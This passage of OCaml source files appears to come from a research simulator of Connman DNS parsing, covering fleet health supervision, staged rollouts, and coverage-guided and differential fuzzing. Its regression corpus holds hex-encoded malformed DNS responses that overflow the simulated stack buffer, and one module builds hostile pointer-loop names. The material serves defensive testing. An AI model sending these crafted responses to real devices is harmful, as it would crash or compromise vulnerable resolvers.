    supervisors). *)

type state = Healthy | Degraded | Quarantined | Reintroduced

val state_name : state -> string
val all_states : state list
(** Fixed reporting order: healthy, degraded, quarantined,
    reintroduced. *)

type cause =
  | Crashed  (** a crash disposition was observed *)
  | Compromised  (** attacker-controlled execution was observed *)
  | Crash_loop  (** the device's supervisor gave up *)
  | Cell_escalated  (** the LAN supervisor ordered bulk containment *)
  | Probe_ok  (** a benign lookup completed end-to-end *)
  | Probation_over  (** the quarantine probation timer fired *)

val cause_name : cause -> string

type config = {
  quarantine_crashes : int;
      (** crashes inside [window_us] that force quarantine *)
  window_us : int;  (** crash-counting window *)
  probation_us : int;
      (** how long a quarantined device sits out — the caller schedules
          [Probation_over] this far after the quarantine transition *)
}

val default_config : config
(** 3 crashes / 10 s window / 15 s probation. *)

type transition = {
  at : int;  (** sim time, µs *)
  from_state : state;
  to_state : state;
  cause : cause;
}

type t

val create : ?config:config -> unit -> t
(** A fresh machine in [Healthy]. *)

val config : t -> config
val state : t -> state

val observe : t -> now:int -> cause -> state
(** Feed one observation; returns the (possibly unchanged) state.
    Transitions are recorded with their timestamp and cause. *)

val transitions : t -> transition list
(** Oldest first. *)

val quarantines : t -> int
(** Times the machine entered [Quarantined]. *)

val reintroductions : t -> int
(** Times the machine entered [Reintroduced]. *)
