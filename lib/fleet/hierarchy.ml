module Supervisor = Core.Supervisor

type member = { m_name : string; m_sup : Supervisor.t; m_health : Health.t }

type cell = {
  c_name : string;
  c_owner : t;
  mutable c_members : member list;  (* reverse attach order *)
  mutable c_state : [ `Ok | `Degraded | `Escalated ];
  mutable c_hook : unit -> unit;
}

and t = {
  escalate_frac : float;
  recover_frac : float;
  mutable cells : cell list;  (* reverse creation order *)
  mutable escalations : int;
  mutable log : (int * string * string) list;  (* most recent first *)
}

let create ?(escalate_frac = 0.35) ?recover_frac () =
  let recover_frac =
    match recover_frac with Some f -> f | None -> escalate_frac /. 2.0
  in
  if
    (not (recover_frac > 0.0))
    || recover_frac > escalate_frac
    || escalate_frac > 1.0
  then
    invalid_arg
      "Hierarchy.create: need 0 < recover_frac <= escalate_frac <= 1";
  { escalate_frac; recover_frac; cells = []; escalations = 0; log = [] }

let add_cell t ~name =
  let c =
    { c_name = name; c_owner = t; c_members = []; c_state = `Ok;
      c_hook = (fun () -> ()) }
  in
  t.cells <- c :: t.cells;
  c

let attach c ~name ~sup ~health =
  c.c_members <- { m_name = name; m_sup = sup; m_health = health } :: c.c_members

let on_escalate c hook = c.c_hook <- hook

let member_down m =
  Health.state m.m_health = Health.Quarantined || Supervisor.gave_up m.m_sup

let cell_down c = List.length (List.filter member_down c.c_members)
let cell_size c = List.length c.c_members
let cell_name c = c.c_name
let cell_state c = c.c_state

let check t c ~now =
  let size = cell_size c in
  if size > 0 then begin
    let down = cell_down c in
    let frac = float_of_int down /. float_of_int size in
    let all_healthy =
      List.for_all (fun m -> Health.state m.m_health = Health.Healthy)
        c.c_members
    in
    match c.c_state with
    | `Escalated ->
        if frac <= t.recover_frac then begin
          c.c_state <- (if all_healthy then `Ok else `Degraded);
          t.log <- (now, c.c_name, "recovered") :: t.log
        end
    | `Ok | `Degraded ->
        if frac >= t.escalate_frac then begin
          c.c_state <- `Escalated;
          t.escalations <- t.escalations + 1;
          t.log <- (now, c.c_name, "escalated") :: t.log;
          c.c_hook ()
        end
        else c.c_state <- (if all_healthy then `Ok else `Degraded)
  end

let cells t = List.rev t.cells
let escalations t = t.escalations
let events t = List.rev t.log

let state_counts t =
  let count st =
    List.fold_left
      (fun acc c ->
        acc
        + List.length
            (List.filter (fun m -> Health.state m.m_health = st) c.c_members))
      0 t.cells
  in
  List.map (fun st -> (st, count st)) Health.all_states
