(** Supervision hierarchy: per-device supervisors roll up into per-LAN
    cell supervisors with escalation.

    Contract: a {e cell} owns the (supervisor, health) pairs of the
    devices on one LAN and maintains a three-valued rollup —

    - [`Ok]: every member is [Healthy];
    - [`Degraded]: at least one member is not [Healthy];
    - [`Escalated]: the fraction of members that are {e down} (health
      [Quarantined], or supervisor in crash-loop give-up) reached
      [escalate_frac].

    Entering [`Escalated] fires the cell's escalation hook exactly once
    per episode and counts one escalation; the caller's hook typically
    bulk-quarantines the cell's [Degraded] members
    ({!Health.Cell_escalated}) so a failing LAN is contained instead of
    limping.  The cell de-escalates (back to [`Degraded]/[`Ok]) only
    when the down fraction falls to [recover_frac] or below —
    escalation is hysteretic so a cell flapping around the threshold
    does not fire its hook repeatedly.

    Rollups are recomputed by {!check}, which the fleet engine calls
    after every member health transition; the hierarchy itself
    schedules nothing and draws no randomness, so it adds no
    nondeterminism to a seeded campaign. *)

type t
type cell

val create : ?escalate_frac:float -> ?recover_frac:float -> unit -> t
(** Defaults: escalate at 0.35 down, recover at half that.  Raises
    [Invalid_argument] unless [0 < recover_frac <= escalate_frac <= 1]. *)

val add_cell : t -> name:string -> cell

val attach :
  cell -> name:string -> sup:Core.Supervisor.t -> health:Health.t -> unit
(** Enroll one device's supervisor + health machine into the cell. *)

val on_escalate : cell -> (unit -> unit) -> unit
(** Replace the cell's escalation hook (default: none). *)

val check : t -> cell -> now:int -> unit
(** Recompute the cell rollup and fire the hook on an [`Ok]/[`Degraded]
    → [`Escalated] edge. *)

val cell_name : cell -> string
val cell_state : cell -> [ `Ok | `Degraded | `Escalated ]
val cell_size : cell -> int

val cell_down : cell -> int
(** Members currently quarantined or whose supervisor gave up. *)

val cells : t -> cell list
(** In creation order. *)

val escalations : t -> int
(** Total [`Escalated] edges across all cells. *)

val events : t -> (int * string * string) list
(** [(at, cell, what)] log, oldest first — ["escalated"] and
    ["recovered"] edges. *)

val state_counts : t -> (Health.state * int) list
(** Fleet-wide member census by health state, in {!Health.all_states}
    order. *)
