type wave = {
  w_index : int;
  w_label : string;
  w_first : int;
  w_count : int;
  w_bad : bool;
}

let plan ~devices ~canary ~wave ~bad_wave =
  if devices <= 0 then invalid_arg "Rollout.plan: devices must be positive";
  if canary <= 0 || wave <= 0 then
    invalid_arg "Rollout.plan: wave sizes must be positive";
  let bad i = match bad_wave with Some b -> b = i | None -> false in
  let rec waves i first =
    if first >= devices then []
    else
      let count =
        min (if i = 0 then canary else wave) (devices - first)
      in
      let label = if i = 0 then "canary" else Printf.sprintf "wave-%d" i in
      { w_index = i; w_label = label; w_first = first; w_count = count;
        w_bad = bad i }
      :: waves (i + 1) (first + count)
  in
  waves 0 0

let decide ~size ~hits ~rollback_frac =
  if size > 0 && float_of_int hits /. float_of_int size > rollback_frac then
    `Rollback
  else `Advance
