(** Staged patch-rollout planning: canary → waves, with a regression
    gate per wave.

    Pure planning and arithmetic — the campaign engine owns the clock,
    applies patches, and counts hits; this module decides {e which}
    devices belong to each wave and {e whether} a soaked wave advances
    or rolls back.  Devices are identified by their fleet index
    [0 .. devices-1]; waves partition that range in order: the canary
    first, then fixed-size waves until the fleet is covered. *)

type wave = {
  w_index : int;  (** 0 = canary *)
  w_label : string;  (** ["canary"], ["wave-1"], … — the cohort label *)
  w_first : int;  (** first device index in the wave *)
  w_count : int;
  w_bad : bool;  (** this wave ships the injected faulty patch *)
}

val plan : devices:int -> canary:int -> wave:int -> bad_wave:int option -> wave list
(** Partition [0 .. devices-1] into a canary of [canary] devices
    followed by waves of [wave].  [bad_wave = Some i] marks wave index
    [i] as shipping the faulty patch (out-of-range indices mark
    nothing).  Raises [Invalid_argument] on non-positive sizes. *)

val decide :
  size:int -> hits:int -> rollback_frac:float -> [ `Advance | `Rollback ]
(** The regression gate: [hits] wave members saw a crash or compromise
    during the soak window; roll back when the hit fraction strictly
    exceeds [rollback_frac]. *)
