(* Regression corpus: fuzzer-found inputs that overflow the Listing-1
   stack buffer, committed as hex so `dune runtest` replays them through
   the sanitizer triage path forever.  Each entry records the campaign
   seed that found it and the mutation that matters.

   Harvested from `connman-repro fuzz --seed N --smoke` (the crashes'
   [input_hex] fields in FUZZ JSON output).  All of them are one or two
   wire-format-aware mutations away from a benign compressed response:
   a compression pointer or label length spliced so the permissive
   [get_name] expansion exceeds the 1024-byte buffer.

   The entries live in the library (rather than under test/) so the
   codec-differential mode can fold them into its input pool: they are
   exactly the kind of near-valid hostile wire where the zero-copy and
   reference codecs are most likely to disagree. *)

let entries =
  [
    ( "seed1-pointer-into-header",
      (* answer-name pointer re-targeted at offset 1 (inside the id
         field), turning the expansion into a long re-walk *)
      "1a2b8180000200010000000003777777076578616d706c6503636f6d000001000103777777076578616d706c65c0016f6d00000100010000012c00045db8d822"
    );
    ( "seed2-pointer-loop",
      (* pointer spliced to land back inside the answer name itself *)
      "1a2b8182000100010000000003777777076578616d706c6503636f6d000001000103777777c02178616d706c6503636f6d00000100010000012c00045db8d822"
    );
    ( "seed3-truncated-double-pointer",
      (* two pointer splices plus a truncation: the message ends mid-rdata
         but the expansion has already overflowed *)
      "1a2b8180000100010000000003777777076578616d706c65c0036f6d000001000103c02077076578616d706c65ba"
    );
    ( "seed5-label-splice-pointer",
      (* 0x97 label-length splice (permissive-only) combined with a
         backward pointer *)
      "1a3f8180000100010000000003777777076578616d706c6503636f6d000001000103777777c02178616d706c6597636f6d00000100010000012c00045db8d822"
    );
  ]
