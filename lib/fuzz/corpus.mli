(** The committed regression corpus: fuzzer-found crash inputs.

    Each entry is [(label, hex)] where [hex] decodes (via
    {!Engine.string_of_hex}) to the wire bytes of a response that
    overflows the Listing-1 stack buffer.  Replayed by the test suite on
    both ISAs and folded into the {!Differential} input pool. *)

val entries : (string * string) list
