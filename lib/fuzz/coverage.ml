(* AFL-style edge coverage over the retired-instruction stream.

   The map does not hook the interpreters itself: {!touch} is designed to
   sit behind [Telemetry.Profile.set_sink], so the same per-pc stream the
   profiler already taps feeds the edge map with no second
   instrumentation point in the CPUs.

   An edge is the (previous pc, pc) pair, hashed into a fixed 64 Ki
   bucket map.  Two layers of state keep the common operations O(1):

   - [mark]/[stamp]: which buckets the {e current} execution has hit,
     without clearing a 64 Ki array per exec (generation-stamping, the
     same trick the memory pages use);
   - [map]: which buckets {e any} execution has ever hit — the corpus'
     accumulated coverage.  {!commit} promotes the current exec's buckets
     into it and reports how many were globally new, which is the
     fuzzer's "interesting input" signal. *)

let buckets = 1 lsl 16

type t = {
  map : Bytes.t;  (* ever-hit, one byte per bucket *)
  mark : int array;  (* stamp of the last exec that hit the bucket *)
  mutable stamp : int;
  mutable prev : int;
  mutable this_exec : int list;  (* buckets first hit this exec *)
  mutable edges : int;  (* distinct buckets ever hit *)
}

let create () =
  {
    map = Bytes.make buckets '\000';
    mark = Array.make buckets 0;
    stamp = 0;
    prev = 0;
    this_exec = [];
    edges = 0;
  }

let begin_exec t =
  t.stamp <- t.stamp + 1;
  t.prev <- 0;
  t.this_exec <- []

(* Fibonacci-hash the edge into a bucket.  The multiply decorrelates the
   low bits of [prev] and [pc] (consecutive instructions differ only in
   their low bits), the mask keeps the result in range. *)
let touch t pc =
  let b = ((t.prev * 0x9E3779B1) lxor pc) land (buckets - 1) in
  if t.mark.(b) <> t.stamp then begin
    t.mark.(b) <- t.stamp;
    t.this_exec <- b :: t.this_exec
  end;
  t.prev <- pc

let commit t =
  let fresh =
    List.fold_left
      (fun n b ->
        if Bytes.get t.map b = '\000' then begin
          Bytes.set t.map b '\001';
          n + 1
        end
        else n)
      0 t.this_exec
  in
  t.edges <- t.edges + fresh;
  t.this_exec <- [];
  fresh

let edges t = t.edges
