(** Edge-coverage bitmap over the retired-instruction stream.

    Feeds from the instruction profiler's pc tap
    ([Telemetry.Profile.set_sink]): attach [touch] as the sink and the
    map sees every retired instruction with no extra hook in the
    interpreters.  An edge is a hashed (previous pc, pc) pair in a
    fixed 65536-bucket map, as in AFL. *)

type t

val create : unit -> t

val begin_exec : t -> unit
(** Start a new execution: resets the previous-pc state and the
    per-exec hit set (O(1) — the global map is untouched). *)

val touch : t -> int -> unit
(** One retired instruction at this pc.  Intended as a
    [Telemetry.Profile] sink. *)

val commit : t -> int
(** Fold the current execution's edges into the global map; returns the
    number of edges never seen by {e any} prior execution (> 0 means
    the input found new coverage and belongs in the corpus). *)

val edges : t -> int
(** Distinct edges ever hit. *)
