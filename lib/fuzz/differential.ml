(* Codec-differential fuzzing: the zero-copy codec vs the reference.

   The zero-copy rewrite of [Dns.Wire]/[Dns.Packet] is only safe if it
   is observationally identical to the old materializing codec, so the
   pre-rewrite implementation survives as [Dns.Legacy] and this module
   drives both over the same inputs:

   - decode: [Legacy.decode] and [Packet.decode] must agree — same
     packet structurally on [Ok], the exact same error string on
     [Error];
   - name walk: [Legacy.name_decode] and [Name.decode] at the question
     offset must agree the same way;
   - re-encode: when decode succeeds, [Legacy.encode] and
     [Packet.encode] must produce byte-identical output (or raise
     [Invalid_argument] with identical messages), compressed and
     uncompressed.

   Inputs are the benign seed corpus, the committed crash corpus, a few
   crafted hostiles, and a seeded stream of wire-format-aware mutants
   ({!Mutator}).  A run is a pure function of its seed. *)

module Rng = Memsim.Rng

type divergence = {
  stage : string;  (* "decode" | "name" | "encode" | "encode-nc" *)
  input : string;  (* wire bytes under test *)
  legacy : string;  (* rendered reference result *)
  zero_copy : string;  (* rendered zero-copy result *)
}

type report = {
  seed : int;
  execs : int;  (* mutation executions (pool checks not counted) *)
  pool : int;  (* fixed seed-pool size *)
  decode_ok : int;
  decode_err : int;
  divergent : int;  (* total divergences observed *)
  divergences : divergence list;  (* first few, chronological *)
}

let max_kept = 10

let render_decode = function
  | Ok p -> Format.asprintf "Ok %a" Dns.Packet.pp p
  | Error e -> Printf.sprintf "Error %S" e

let render_name = function
  | Ok (n, used) -> Printf.sprintf "Ok (%S, %d)" (Dns.Name.to_string n) used
  | Error e -> Printf.sprintf "Error %S" e

let render_encode f =
  match f () with
  | bytes -> Printf.sprintf "bytes %s" (Engine.hex_of_string bytes)
  | exception Invalid_argument m -> Printf.sprintf "Invalid_argument %S" m

(* All divergences one wire exhibits, stage-labelled.  Exposed so the
   test suite can point it at hand-built wires. *)
let check wire =
  let divs = ref [] in
  let record stage legacy zero_copy =
    divs := { stage; input = wire; legacy; zero_copy } :: !divs
  in
  let l = Dns.Legacy.decode wire and z = Dns.Packet.decode wire in
  if l <> z then record "decode" (render_decode l) (render_decode z);
  if String.length wire >= 12 then begin
    let ln = Dns.Legacy.name_decode wire 12 and zn = Dns.Name.decode wire 12 in
    if ln <> zn then record "name" (render_name ln) (render_name zn)
  end;
  (match (l, z) with
  | Ok lp, Ok zp ->
      let cmp stage compress =
        let le = render_encode (fun () -> Dns.Legacy.encode ~compress lp)
        and ze = render_encode (fun () -> Dns.Packet.encode ~compress zp) in
        if le <> ze then record stage le ze
      in
      cmp "encode" true;
      cmp "encode-nc" false
  | _ -> ());
  (List.rev !divs, Result.is_ok z)

let seed_pool () =
  let open Dns in
  let q =
    Packet.query ~id:0x1A2B (Name.of_string "www.example.com") Packet.A
  in
  let hostile raw_name = Craft.hostile_response ~query:q ~raw_name () in
  Engine.benign_seeds ()
  @ List.map (fun (_, hex) -> Engine.string_of_hex hex) Corpus.entries
  @ [
      hostile (Name.encode (Name.of_string "evil.example.com"));
      hostile (Craft.dos_name ~size:2048);
      hostile (Craft.pointer_loop_name ());
    ]

let run ?(seed = 1) ?(execs = 10_000) () =
  let rng = Rng.create seed in
  let pool = seed_pool () in
  let fixed = Array.of_list pool in
  (* Mutants that still decode feed back into the pick-pool so later
     mutations stack on them (bounded; deterministic). *)
  let live = ref fixed and live_len = ref (Array.length fixed) in
  let decode_ok = ref 0
  and decode_err = ref 0
  and divergent = ref 0
  and kept = ref [] in
  let note (divs, ok) =
    if ok then incr decode_ok else incr decode_err;
    List.iter
      (fun d ->
        incr divergent;
        if List.length !kept < max_kept then kept := d :: !kept)
      divs
  in
  List.iter (fun w -> note (check w)) pool;
  let pick_other () = !live.(Rng.int rng !live_len) in
  for _ = 1 to execs do
    let base = pick_other () in
    let m = Mutator.mutate rng ~max_len:4096 ~pick_other base in
    let ((_, ok) as r) = check m in
    note r;
    (* Decodable mutants join the pick-pool (bounded) so later
       mutations stack on them. *)
    if ok && !live_len < 256 then begin
      let next = Array.make (!live_len + 1) m in
      Array.blit !live 0 next 0 !live_len;
      live := next;
      live_len := !live_len + 1
    end
  done;
  {
    seed;
    execs;
    pool = Array.length fixed;
    decode_ok = !decode_ok;
    decode_err = !decode_err;
    divergent = !divergent;
    divergences = List.rev !kept;
  }

let json_escape s =
  let b = Buffer.create (String.length s + 8) in
  String.iter
    (fun c ->
      match c with
      | '"' -> Buffer.add_string b "\\\""
      | '\\' -> Buffer.add_string b "\\\\"
      | '\n' -> Buffer.add_string b "\\n"
      | c when Char.code c < 0x20 ->
          Buffer.add_string b (Printf.sprintf "\\u%04x" (Char.code c))
      | c -> Buffer.add_char b c)
    s;
  Buffer.contents b

let report_json r =
  let b = Buffer.create 512 in
  Buffer.add_string b "{\n  \"schema\": \"codec-diff-v1\",\n";
  Printf.bprintf b "  \"seed\": %d,\n" r.seed;
  Printf.bprintf b "  \"execs\": %d,\n" r.execs;
  Printf.bprintf b "  \"pool\": %d,\n" r.pool;
  Printf.bprintf b "  \"decode_ok\": %d,\n" r.decode_ok;
  Printf.bprintf b "  \"decode_err\": %d,\n" r.decode_err;
  Printf.bprintf b "  \"divergent\": %d,\n" r.divergent;
  Buffer.add_string b "  \"divergences\": [";
  List.iteri
    (fun i d ->
      if i > 0 then Buffer.add_char b ',';
      Printf.bprintf b
        "\n    {\"stage\": \"%s\", \"input_hex\": \"%s\", \"legacy\": \
         \"%s\", \"zero_copy\": \"%s\"}"
        (json_escape d.stage)
        (Engine.hex_of_string d.input)
        (json_escape d.legacy) (json_escape d.zero_copy))
    r.divergences;
  if r.divergences <> [] then Buffer.add_string b "\n  ";
  Buffer.add_string b "]\n}\n";
  Buffer.contents b

let pp_report ppf r =
  Format.fprintf ppf
    "codec-diff: seed=%d execs=%d pool=%d decode_ok=%d decode_err=%d \
     divergent=%d"
    r.seed r.execs r.pool r.decode_ok r.decode_err r.divergent;
  List.iter
    (fun d ->
      Format.fprintf ppf "@.  [%s] input=%s@.    legacy:    %s@.    zero-copy: %s"
        d.stage
        (Engine.hex_of_string d.input)
        d.legacy d.zero_copy)
    r.divergences
