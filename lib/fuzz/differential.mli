(** Codec-differential fuzzing: zero-copy {!Dns.Wire}/{!Dns.Packet} vs
    the {!Dns.Legacy} reference.

    Both codecs must agree byte-for-byte: same decoded packet (or the
    exact same error string), same name-walk result at the question
    offset, and — when decode succeeds — byte-identical re-encoded
    output (or identical [Invalid_argument] messages), compressed and
    uncompressed.  Any disagreement is a {!divergence}.

    A run is a pure function of its seed. *)

type divergence = {
  stage : string;  (** ["decode"], ["name"], ["encode"], ["encode-nc"] *)
  input : string;  (** wire bytes under test *)
  legacy : string;  (** rendered reference result *)
  zero_copy : string;  (** rendered zero-copy result *)
}

type report = {
  seed : int;
  execs : int;  (** mutation executions (pool checks not counted) *)
  pool : int;  (** fixed seed-pool size *)
  decode_ok : int;
  decode_err : int;
  divergent : int;  (** total divergences observed *)
  divergences : divergence list;  (** first few, chronological *)
}

val check : string -> divergence list * bool
(** All divergences one wire exhibits, plus whether the zero-copy
    decode succeeded.  The expected result is [([], _)]. *)

val seed_pool : unit -> string list
(** The fixed input pool: benign seeds, the committed crash corpus
    ({!Corpus.entries}), and crafted hostiles. *)

val run : ?seed:int -> ?execs:int -> unit -> report
(** Default [seed 1], [execs 10_000]. *)

val report_json : report -> string
(** [codec-diff-v1] JSON; deterministic and byte-identical for equal
    seeds. *)

val pp_report : Format.formatter -> report -> unit
