module Rng = Memsim.Rng
module Mem = Memsim.Memory
module Process = Loader.Process
module Oracle = Sanitizer.Oracle
module O = Machine.Outcome

(* Coverage-guided snapshot fuzzer for the Connman parse path.

   The harness is the classic AFL loop specialized to the simulated
   machine: boot the daemon image once, snapshot it copy-on-write, then
   per execution restore (microseconds — only pages the last parse
   dirtied are swapped back), write the mutated datagram into the guest
   rx buffer and call [parse_response] with edge coverage tapped off the
   instruction profiler.  Inputs that light up new edges join the
   corpus.

   Crashing inputs get a second, sanitizer-instrumented run from the
   same snapshot: the taint oracle labels every wire byte, protects the
   [get_name] frame, and its first report names both the detection rule
   that fired and the exact wire offset that reached the overflow — the
   [wire[off]@fuzz -> mem -> pc] provenance chain.  Two runs rather than
   one because coverage (run_traced) and taint (run_sanitized) are
   alternative interpreter loops; determinism makes the replay exact.

   Everything — mutation choices, corpus growth, stats — is a pure
   function of [config.seed].  The stats JSON contains no wall-clock
   values, so a re-run with the same seed is byte-identical. *)

type config = {
  arch : Loader.Arch.t;
  version : Connman.Version.t;
  profile : Defense.Profile.t;
  seed : int;
  max_execs : int;
  stop_on_find : bool;  (* stop at the first redzone-write triage *)
}

let default_config =
  {
    arch = Loader.Arch.X86;
    version = Connman.Version.v1_34;
    profile = Defense.Profile.wx;
    seed = 1;
    max_execs = 2_000;
    stop_on_find = false;
  }

type crash = {
  exec : int;
  input : string;
  outcome : string;
  steps : int;
  rule : string option;  (* first detection rule, if the oracle fired *)
  wire_offset : int option;
  provenance : string option;  (* rendered first report *)
}

type stats = {
  cfg : config;
  seed_inputs : int;
  execs : int;
  corpus : int;
  edges : int;
  total_steps : int;
  crashes : crash list;  (* deduped by (outcome, rule), chronological *)
  rediscovered_at : int option;  (* exec index of first redzone-write *)
  first_rule : string option;  (* rule of the chronologically first crash *)
}

(* Benign seed corpus: well-formed responses a real resolver could send,
   compression included (the pointer splice operator needs pointer bytes
   in-distribution to riff on). *)
let benign_seeds () =
  let open Dns in
  let n = Name.of_string in
  let q1 = Packet.query ~id:0x1A2B (n "www.example.com") Packet.A in
  let r1 =
    Packet.response ~query:q1
      [ Packet.a_record (n "www.example.com") ~ttl:300 ~ipv4:0x5DB8D822 ]
  in
  let q2 = Packet.query ~id:0x1A2C (n "cdn.example.net") Packet.A in
  let r2 =
    Packet.response ~query:q2
      [
        Packet.cname_record (n "cdn.example.net") ~ttl:600
          ~target:(n "edge7.cdn.example.net");
        Packet.a_record (n "edge7.cdn.example.net") ~ttl:60 ~ipv4:0xC6336401;
      ]
  in
  let q3 = Packet.query ~id:0x1A2D (n "pool.ntp.org") Packet.A in
  let r3 =
    Packet.response ~query:q3
      [
        Packet.a_record (n "pool.ntp.org") ~ttl:30 ~ipv4:0xA29F1804;
        Packet.a_record (n "pool.ntp.org") ~ttl:30 ~ipv4:0xA29F1805;
        Packet.a_record (n "pool.ntp.org") ~ttl:30 ~ipv4:0xA29F1806;
      ]
  in
  [
    Packet.encode ~compress:true r1;
    Packet.encode ~compress:false r1;
    Packet.encode ~compress:true r2;
    Packet.encode ~compress:true r3;
  ]

let spec config =
  match config.arch with
  | Loader.Arch.X86 ->
      Connman.Program_x86.spec ~version:config.version ~profile:config.profile ()
  | Loader.Arch.Arm ->
      Connman.Program_arm.spec ~version:config.version ~profile:config.profile ()

let fuel = 400_000 (* same budget Dnsproxy gives a parse *)

let run config =
  let rng = Rng.create config.seed in
  let proc = Process.boot (spec config) ~profile:config.profile ~seed:config.seed in
  let snap = Process.snapshot proc in
  let entry = Process.symbol proc "parse_response" in
  let buf = proc.Process.layout.Loader.Layout.heap_base in
  let max_len = min 2048 proc.Process.layout.Loader.Layout.heap_size in
  let cov = Coverage.create () in
  let profile = Telemetry.Profile.create () in
  Telemetry.Profile.set_sink profile (Some (Coverage.touch cov));
  let oracle = Oracle.create () in
  let geometry = Connman.Frame.geometry config.arch in
  let frame_buffer = Connman.Frame.buffer_addr proc in
  let symbolize = Exploit.Debugger.symbolize proc in
  let corpus = ref [||] in
  let add_to_corpus s = corpus := Array.append !corpus [| s |] in
  let pick_input () = !corpus.(Rng.int rng (Array.length !corpus)) in
  let total_steps = ref 0 in
  (* Coverage-instrumented execution of one input from the snapshot. *)
  let exec_cov input =
    Process.restore proc snap;
    Mem.write_bytes proc.Process.mem buf input;
    Telemetry.Profile.clear profile;
    Coverage.begin_exec cov;
    let r =
      Process.call proc ~fuel ~profile ~entry ~args:[ buf; String.length input ]
    in
    total_steps := !total_steps + r.Process.steps;
    r
  in
  (* Sanitizer-instrumented replay for triage: same snapshot, same
     bytes, taint armed. *)
  let triage input =
    Process.restore proc snap;
    Mem.write_bytes proc.Process.mem buf input;
    Oracle.begin_parse oracle;
    Oracle.clear_reports oracle;
    let src = Oracle.new_source oracle ~origin:"fuzz" ~length:(String.length input) in
    Oracle.taint oracle ~src buf ~len:(String.length input);
    Oracle.protect_frame oracle ~buffer:frame_buffer geometry;
    let r =
      Process.call proc ~fuel ~sanitizer:oracle ~entry
        ~args:[ buf; String.length input ]
    in
    total_steps := !total_steps + r.Process.steps;
    Oracle.first_report oracle
  in
  let seeds = benign_seeds () in
  List.iter
    (fun s ->
      let _ = exec_cov s in
      ignore (Coverage.commit cov);
      add_to_corpus s)
    seeds;
  let crashes = ref [] in
  let crash_keys = Hashtbl.create 8 in
  let rediscovered = ref None in
  let first_rule = ref None in
  let execs = ref 0 in
  let stop = ref false in
  while (not !stop) && !execs < config.max_execs do
    incr execs;
    let input = Mutator.mutate rng ~max_len ~pick_other:pick_input (pick_input ()) in
    let r = exec_cov input in
    let fresh = Coverage.commit cov in
    if r.Process.outcome <> O.Halted then begin
      let report = triage input in
      let rule = Option.map (fun (rp : Oracle.report) -> Oracle.kind_name rp.Oracle.kind) report in
      if !first_rule = None then first_rule := rule;
      (match report with
      | Some rp when rp.Oracle.kind = Oracle.Redzone_write ->
          if !rediscovered = None then begin
            rediscovered := Some !execs;
            if config.stop_on_find then stop := true
          end
      | _ -> ());
      let key = (O.to_string r.Process.outcome, rule) in
      if not (Hashtbl.mem crash_keys key) && List.length !crashes < 16 then begin
        Hashtbl.replace crash_keys key ();
        crashes :=
          {
            exec = !execs;
            input;
            outcome = O.to_string r.Process.outcome;
            steps = r.Process.steps;
            rule;
            wire_offset =
              Option.map (fun rp -> Oracle.wire_offset rp) report;
            provenance = Option.map (Oracle.render ~symbolize) report;
          }
          :: !crashes
      end
    end
    else if fresh > 0 then add_to_corpus input
  done;
  {
    cfg = config;
    seed_inputs = List.length seeds;
    execs = !execs;
    corpus = Array.length !corpus;
    edges = Coverage.edges cov;
    total_steps = !total_steps;
    crashes = List.rev !crashes;
    rediscovered_at = !rediscovered;
    first_rule = !first_rule;
  }

(* {1 Deterministic JSON} *)

let json_escape s =
  let b = Buffer.create (String.length s + 8) in
  String.iter
    (fun c ->
      match c with
      | '"' -> Buffer.add_string b "\\\""
      | '\\' -> Buffer.add_string b "\\\\"
      | '\n' -> Buffer.add_string b "\\n"
      | c when Char.code c < 0x20 ->
          Buffer.add_string b (Printf.sprintf "\\u%04x" (Char.code c))
      | c -> Buffer.add_char b c)
    s;
  Buffer.contents b

let hex_of_string s =
  let b = Buffer.create (2 * String.length s) in
  String.iter (fun c -> Buffer.add_string b (Printf.sprintf "%02x" (Char.code c))) s;
  Buffer.contents b

let string_of_hex h =
  if String.length h mod 2 <> 0 then invalid_arg "Engine.string_of_hex: odd length";
  String.init
    (String.length h / 2)
    (fun i -> Char.chr (int_of_string ("0x" ^ String.sub h (2 * i) 2)))

let opt_int = function None -> "null" | Some n -> string_of_int n

let opt_str = function
  | None -> "null"
  | Some s -> Printf.sprintf "\"%s\"" (json_escape s)

let crash_json c =
  Printf.sprintf
    "{\"exec\":%d,\"outcome\":\"%s\",\"steps\":%d,\"rule\":%s,\"wire_offset\":%s,\"provenance\":%s,\"input_hex\":\"%s\"}"
    c.exec (json_escape c.outcome) c.steps (opt_str c.rule)
    (opt_int c.wire_offset) (opt_str c.provenance) (hex_of_string c.input)

let stats_json st =
  let b = Buffer.create 1024 in
  Buffer.add_string b "{\n";
  Buffer.add_string b "  \"schema\": \"fuzz-stats-v1\",\n";
  Buffer.add_string b
    (Printf.sprintf "  \"arch\": \"%s\",\n" (Loader.Arch.name st.cfg.arch));
  Buffer.add_string b
    (Printf.sprintf "  \"version\": \"%s\",\n"
       (Connman.Version.to_string st.cfg.version));
  Buffer.add_string b
    (Printf.sprintf "  \"profile\": \"%s\",\n" (Defense.Profile.name st.cfg.profile));
  Buffer.add_string b (Printf.sprintf "  \"seed\": %d,\n" st.cfg.seed);
  Buffer.add_string b (Printf.sprintf "  \"max_execs\": %d,\n" st.cfg.max_execs);
  Buffer.add_string b (Printf.sprintf "  \"seed_inputs\": %d,\n" st.seed_inputs);
  Buffer.add_string b (Printf.sprintf "  \"execs\": %d,\n" st.execs);
  Buffer.add_string b (Printf.sprintf "  \"corpus\": %d,\n" st.corpus);
  Buffer.add_string b (Printf.sprintf "  \"edges\": %d,\n" st.edges);
  Buffer.add_string b (Printf.sprintf "  \"total_steps\": %d,\n" st.total_steps);
  Buffer.add_string b
    (Printf.sprintf "  \"rediscovered_at_exec\": %s,\n" (opt_int st.rediscovered_at));
  Buffer.add_string b
    (Printf.sprintf "  \"first_rule\": %s,\n" (opt_str st.first_rule));
  Buffer.add_string b "  \"crashes\": [\n";
  List.iteri
    (fun i c ->
      Buffer.add_string b "    ";
      Buffer.add_string b (crash_json c);
      if i < List.length st.crashes - 1 then Buffer.add_char b ',';
      Buffer.add_char b '\n')
    st.crashes;
  Buffer.add_string b "  ]\n}\n";
  Buffer.contents b

let pp_stats ppf st =
  Format.fprintf ppf
    "fuzz %s/%s profile=%s seed=%d: %d execs, corpus %d (%d seeds), %d edges@."
    (Loader.Arch.name st.cfg.arch)
    (Connman.Version.to_string st.cfg.version)
    (Defense.Profile.name st.cfg.profile)
    st.cfg.seed st.execs st.corpus st.seed_inputs st.edges;
  (match st.rediscovered_at with
  | Some n ->
      Format.fprintf ppf "  overflow rediscovered at exec %d (rule %s)@." n
        (match st.first_rule with Some r -> r | None -> "?")
  | None -> Format.fprintf ppf "  overflow not rediscovered within budget@.");
  List.iter
    (fun c ->
